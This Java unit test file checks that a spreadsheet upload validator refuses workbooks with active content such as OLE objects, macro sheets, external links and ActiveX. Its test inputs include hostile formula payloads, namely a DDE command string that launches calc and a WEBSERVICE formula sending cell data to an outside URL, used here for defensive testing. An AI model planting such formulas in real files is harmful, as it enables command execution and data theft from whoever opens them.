package io.kijun.security;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.kijun.fixture.BadWorkbooks;
import io.kijun.sheets.SmallWorkbooks;
import io.kijun.spreadsheet.UploadCheck;
import io.kijun.spreadsheet.UploadCheck.Kind;
import io.kijun.spreadsheet.UploadCheck.Rejection;
import io.kijun.spreadsheet.WorkbookFile;
import io.kijun.spreadsheet.WorkbookFolder;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** An approver opens the files of a draft: nothing in them acts or fetches. */
class ActiveContentTests {

  private static final String SHEET = "xl/worksheets/sheet1.xml";
  private static final String RELATIONS = "xl/_rels/workbook.xml.rels";

  @TempDir private Path folder = Path.of("");

  private byte[] small() throws IOException {
    SmallWorkbooks.write(folder);
    return Objects.requireNonNull(SmallWorkbooks.files(folder).get("01-small.xlsx"));
  }

  private static List<Rejection> checked(byte[] content) {
    return UploadCheck.of(new WorkbookFile("01-small.xlsx", content));
  }

  private static void refused(byte[] content) {
    assertThat(checked(content)).extracting(Rejection::kind).containsOnly(Kind.ACTIVE);
  }

  @Test
  void theShippedWorkbooksArePassive() throws IOException {
    for (WorkbookFile file : WorkbookFolder.read(Path.of("decision-tables/kubota-2.1"))) {
      assertThat(UploadCheck.of(file)).as(file.name()).isEmpty();
    }
  }

  static Stream<String> relations() {
    String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    return Stream.of(
        "Type=\"" + office + "hyperlink\" Target=\"file:///c:/x.exe\" TargetMode=\"External\"",
        "Type=\"" + office + "hyperlink\" Target=\"\\\\server\\x\" TargetMode=\"External\"",
        "Type=\"" + office + "hyperlink\" Target=\"ms-word:x\" TargetMode=\"External\"",
        "Type=\"" + office + "image\" Target=\"http://example.com/x.png\" TargetMode=\"External\"",
        "Type=\"" + office + "image\" Target=\"//server/share/x.png\"",
        "Type=\"" + office + "image\" Target=\"file:///c:/x.png\"",
        "Type=\"" + office + "externalLink\" Target=\"externalLinks/externalLink1.xml\"",
        "Type=\"" + office + "connections\" Target=\"connections.xml\"",
        "Type=\"" + office + "oleObject\" Target=\"embeddings/oleObject1.bin\"",
        "Type=\"" + office + "package\" Target=\"embeddings/book.xlsx\"",
        "Type=\"" + office + "control\" Target=\"activeX/activeX1.xml\"",
        "Type=\"" + office + "attachedToolbars\" Target=\"x.bin\"",
        "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"m\"",
        "Type=\"http://schemas.microsoft.com/office/2011/relationships/webextension\" Target=\"w\"",
        "Type=\"http://example.com/of/a/later/excel\" Target=\"later.xml\"");
  }

  @ParameterizedTest
  @MethodSource("relations")
  void nothingIsRelatedToThatActs(String relation) throws IOException {
    String element = "<Relationship Id=\"rId99\" " + relation + "/>";
    refused(new BadWorkbooks(small()).with(RELATIONS, "", element));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<oleObjects><oleObject progId=\"Word.Document\" shapeId=\"1\"/></oleObjects>",
        "<x:sp xmlns:x=\"x\" macro=\"[0]!Run\"/>",
        "<v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\" href=\"file:///c:/x.exe\"/>",
        "<definedName xmlns=\"x\" name=\"_xlnm.Auto_Open\" xlm=\"1\">x</definedName>",
        "<x><f>1+_xlfn.WEBSERVICE (\"https://example.com/\"&amp;A1)</f></x>",
        "<x><f>cmd|'/c calc'!A0</f></x>",
        "<x><formula1>_xlfn.IMAGE(\"https://example.com/x.png\")</formula1></x>",
        "<x><definedName>RTD(\"x\",,\"y\")</definedName></x>"
      })
  void noElementActs(String element) throws IOException {
    refused(new BadWorkbooks(small()).with(SHEET, "", element));
  }

  @Test
  void aFormulaIsToldByItsCell() throws IOException {
    byte[] formula =
        new BadWorkbooks(small()).with(SHEET, "", "<x><c r=\"B3\"><f>cmd|'/c calc'!A0</f></c></x>");
    assertThat(checked(formula))
        .singleElement()
        .satisfies(one -> assertThat(one.place("x.xlsx").toString()).isEqualTo("x.xlsx › 基準 › B3"));
  }

  @Test
  void aLinkToAPageDoesNothingUntilItIsClicked() throws IOException {
    String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    String link =
        "<Relationship Id=\"rId99\" Target=\"https://example.com/\" TargetMode=\"External\""
            + " Type=\""
            + office
            + "hyperlink\"/>";
    assertThat(checked(new BadWorkbooks(small()).with(RELATIONS, "", link))).isEmpty();
  }

  @Test
  void noPartIsAProgram() throws IOException {
    refused(new BadWorkbooks(small()).with("xl/embeddings/oleObject1.bin", "MZ".getBytes(UTF_8)));
    refused(new BadWorkbooks(small()).with("xl/drawings/d.vml", "<a href=x><br>".getBytes(UTF_8)));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<x><f>SUM(A1:A2)</f></x>",
        "<x><formula1>\"a|b,RTD(x)\"</formula1></x>",
        "<x macro=\"\"><f>MYRTD(1)</f></x>",
        "<x href=\"#a\"/>"
      })
  void whatIsPassiveIsTaken(String element) throws IOException {
    assertThat(checked(new BadWorkbooks(small()).with(SHEET, "", element))).isEmpty();
    byte[] picture = new BadWorkbooks(small()).with("xl/media/i.png", new byte[] {1, 2});
    assertThat(checked(picture)).isEmpty();
  }
}
